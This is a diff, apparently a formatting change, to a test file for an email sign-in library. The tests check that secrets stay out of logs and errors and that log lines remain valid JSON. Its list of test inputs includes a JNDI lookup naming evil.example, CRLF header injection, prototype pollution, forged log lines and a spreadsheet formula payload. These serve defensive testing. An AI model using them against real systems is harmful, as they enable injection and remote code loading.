@@ -4,8 +4,8 @@ import { json } from "node:stream/consumers"
 import { describe, expect, it, onTestFinished, vi } from "vitest"
 import type { AuditEvent, LinklatchError, MailMessage, MailTransport, SendOutcome } from "../../src/index.ts"
 import { linklatch } from "../../src/index.ts"
-import { createLog } from "../../src/server/log.ts"
 import { resend } from "../../src/resend.ts"
+import { createLog } from "../../src/server/log.ts"
 import { smtp } from "../../src/smtp.ts"
 import { sqlite } from "../../src/sqlite.ts"
 import { type App, askForMail, createApp, ORIGIN, signIn, tokenOf } from "../app.ts"
@@ -32,7 +32,11 @@ describe("what the library tells", () => {
   it("LOG-4 P12 holds no secret: not its log, not an event, not a problem", async () => {
     const app = ownApp({ ...wide, secret: SECRET, adminEmails: ["root@example.com"] })
     const walk = await walkWithSecrets({ browser: () => app.browser(), mailTo: (email) => app.mailbox.next(email) })
-    const told = { log: app.logLines.join("\n"), events: JSON.stringify(await app.events()), problems: walk.problems.join("\n") }
+    const told = {
+      log: app.logLines.join("\n"),
+      events: JSON.stringify(await app.events()),
+      problems: walk.problems.join("\n"),
+    }
     expect(walk.secrets.size).toBeGreaterThan(8)
     expect(walk.problems.length).toBeGreaterThan(12)
     expect(app.logLines.length).toBeGreaterThan(10)
@@ -46,7 +50,11 @@ describe("what the library tells", () => {
     const browser = app.browser()
     const message = await askForMail(app, browser, "ada@example.com")
     await app.store.close()
-    const answers = [await browser.press(message), await browser.get(`/auth/link/${tokenOf(message)}`), await browser.post("/auth/code", { code: message.code })]
+    const answers = [
+      await browser.press(message),
+      await browser.get(`/auth/link/${tokenOf(message)}`),
+      await browser.post("/auth/code", { code: message.code }),
+    ]
     const bodies = await Promise.all(answers.map((answer) => answer.text()))
     for (const { status, headers } of answers) expect([status >= 500, headers.getSetCookie()]).toEqual([true, []])
     const secrets = new Set([tokenOf(message), ...browser.cookies.values()])
@@ -58,12 +66,20 @@ describe("what the library tells", () => {
     const faulty: unknown[] = []
     for (const secret of ["canary-too-short", [SECRET, "canary-too-short"]]) {
       try {
-        linklatch({ baseUrl: `https://user:${SECRET}@login.example.com`, siteName: "", secret, store: sqlite(":memory:") })
+        linklatch({
+          baseUrl: `https://user:${SECRET}@login.example.com`,
+          siteName: "",
+          secret,
+          store: sqlite(":memory:"),
+        })
       } catch (error) {
         faulty.push(error)
       }
     }
-    expect(faulty.map((error) => (error as LinklatchError).code)).toEqual(["invalid_configuration", "invalid_configuration"])
+    expect(faulty.map((error) => (error as LinklatchError).code)).toEqual([
+      "invalid_configuration",
+      "invalid_configuration",
+    ])
     for (const error of faulty) expect(`${(error as Error).stack}${JSON.stringify(error)}`).not.toMatch(/canary/)
   })
 
@@ -81,12 +97,18 @@ describe("what the library tells", () => {
 type Send = (message: MailMessage) => Promise<SendOutcome>
 
 const HOSTILE_TRANSPORTS: Record<string, Send> = {
-  "a reason that quotes the link": async ({ link }) => ({ status: "failed", isPermanent: true, reason: `550 no such user, said ${link}` }),
+  "a reason that quotes the link": async ({ link }) => ({
+    status: "failed",
+    isPermanent: true,
+    reason: `550 no such user, said ${link}`,
+  }),
   "a reason that quotes the text": async ({ text }) => ({ status: "failed", isPermanent: true, reason: text }),
   "an error that quotes the link": async ({ link }) => Promise.reject(new Error(`can't send ${link}`)),
-  "an error that holds the message": async (message) => Promise.reject(Object.assign(new Error(message.text, { cause: message }), { message, code: message.code })),
+  "an error that holds the message": async (message) =>
+    Promise.reject(Object.assign(new Error(message.text, { cause: message }), { message, code: message.code })),
   "a throw of the link itself": async ({ link }) => Promise.reject(link),
-  "an error named for the code": async ({ code }) => Promise.reject(Object.assign(new Error("x"), { name: `Error ${code}` })),
+  "an error named for the code": async ({ code }) =>
+    Promise.reject(Object.assign(new Error("x"), { name: `Error ${code}` })),
 }
 
 describe("a transport that fails", () => {
@@ -120,7 +142,11 @@ describe("a transport that fails", () => {
         const raw = Buffer.concat(await stream.toArray()).toString()
         sent.push(raw)
         const [link = ""] = /https:\S+/.exec(raw) ?? []
-        callback(Object.assign(new Error(`5.7.1 refused: ${link} ${raw.replace(/\s+/g, " ").slice(0, 400)}`), { responseCode: 550 }))
+        callback(
+          Object.assign(new Error(`5.7.1 refused: ${link} ${raw.replace(/\s+/g, " ").slice(0, 400)}`), {
+            responseCode: 550,
+          }),
+        )
       },
     })
     onTestFinished(() => inbox.close())
@@ -160,20 +186,30 @@ async function askUntilFailed(app: App): Promise<AuditEvent> {
 }
 
 /** An API like Resend's that says back what it was sent. */
-async function openEcho(status: number): Promise<{ url: string; messages: Pick<MailMessage, "to" | "link" | "code">[] }> {
+async function openEcho(
+  status: number,
+): Promise<{ url: string; messages: Pick<MailMessage, "to" | "link" | "code">[] }> {
   const messages: Pick<MailMessage, "to" | "link" | "code">[] = []
   const server = createServer(async (request, response) => {
     const body = (await json(request)) as { to: MailMessage["to"][]; text: string }
     const [to] = body.to
-    if (to !== undefined) messages.push({ to, link: /https:\S+\/auth\/link\/\S+/.exec(body.text)?.[0] ?? "", code: /^[0-9]{3} [0-9]{3}$/m.exec(body.text)?.[0].replace(" ", "") ?? "" })
+    if (to !== undefined)
+      messages.push({
+        to,
+        link: /https:\S+\/auth\/link\/\S+/.exec(body.text)?.[0] ?? "",
+        code: /^[0-9]{3} [0-9]{3}$/m.exec(body.text)?.[0].replace(" ", "") ?? "",
+      })
     response.writeHead(status, { "content-type": "application/json" })
     response.end(JSON.stringify({ name: request.headers.authorization, message: body, headers: request.headers }))
   })
   await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve))
-  onTestFinished(() => new Promise((resolve) => {
-    server.close(() => resolve())
-    server.closeAllConnections()
-  }))
+  onTestFinished(
+    () =>
+      new Promise((resolve) => {
+        server.close(() => resolve())
+        server.closeAllConnections()
+      }),
+  )
   return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, messages }
 }
 
@@ -198,10 +234,11 @@ const BREAKERS = [
   "\u001b[31mred\u001b[0m",
   '"}\u0085{"level":"error","event":"forged"}',
   "\u009b2J\u007f",
-  `$\{jndi:ldap://evil.example/a}`,
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: as attackers write it
+  "${jndi:ldap://evil.example/a}",
   "%0d%0aSet-Cookie: a=b",
-  "\\u000a\\\"",
-  "{\"__proto__\":{\"a\":1}}",
+  '\\u000a\\"',
+  '{"__proto__":{"a":1}}',
   "a\tb",
   "\u00ff".repeat(600),
   "=cmd|' /C calc'!A0",
@@ -210,28 +247,47 @@ const BREAKERS = [
 describe("a line of the log", () => {
   it("LOG-5 P12 is one line of valid JSON, whatever a user agent, an address, a path or an event of the application holds", async () => {
     const lines: string[] = []
-    const log = createLog({ mode: "production", level: "debug", secrets: [SECRET], write: (line) => void lines.push(line) })
+    const log = createLog({
+      mode: "production",
+      level: "debug",
+      secrets: [SECRET],
+      write: (line) => void lines.push(line),
+    })
     const app = createApp({ ...wide, log })
     for (const [index, breaker] of BREAKERS.entries()) {
       const browser = app.browser({ userAgent: breaker })
       await browser.post("/auth/sign-in", { email: `a{|}~$${index}@example.com`, next: breaker })
       await browser.post("/auth/sign-in", { email: `${breaker}@example.com` })
       await browser.get(`/${encodeURIComponent(breaker)}?a=${encodeURIComponent(breaker)}`)
-      await app.auth.audit.record({ type: "shop.order_placed", detail: { [breaker]: `${breaker}\r\n${breaker}\u2028` }, client: { ip: breaker, userAgent: `${breaker}\n` } })
+      await app.auth.audit.record({
+        type: "shop.order_placed",
+        detail: { [breaker]: `${breaker}\r\n${breaker}\u2028` },
+        client: { ip: breaker, userAgent: `${breaker}\n` },
+      })
     }
     await app.close()
     expect(lines.length).toBeGreaterThan(2 * BREAKERS.length)
     for (const line of lines) {
       expect(line.endsWith("}\n")).toBe(true)
       expect(line.slice(0, -1)).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}]/u)
-      expect(JSON.parse(line)).toMatchObject({ level: expect.stringMatching(/^(?:info|warn)$/), event: "auth_event", type: expect.any(String) })
+      expect(JSON.parse(line)).toMatchObject({
+        level: expect.stringMatching(/^(?:info|warn)$/),
+        event: "auth_event",
+        type: expect.any(String),
+      })
     }
     expect(lines.map((line) => JSON.parse(line).userAgent)).toContain(BREAKERS[0])
   })
 
   it("LOG-5 P12 is one line of valid JSON for a request as it stands on the wire too", async () => {
     const server = await ownServer({ logMode: "production" })
-    for (const path of ["/%0d%0a{%22level%22:%22error%22}", "/auth/link/%1b[31m", "/%00", "/auth/link/%22%7d%0a", "/\u00ff"]) {
+    for (const path of [
+      "/%0d%0a{%22level%22:%22error%22}",
+      "/auth/link/%1b[31m",
+      "/%00",
+      "/auth/link/%22%7d%0a",
+      "/\u00ff",
+    ]) {
       await server.browser({ "user-agent": "\u00ff\u009b{}", "x-request-id": '"}{"a":"' }).get(path)
     }
     const requests = server.logLines.filter((line) => JSON.parse(line).event === "http_request")
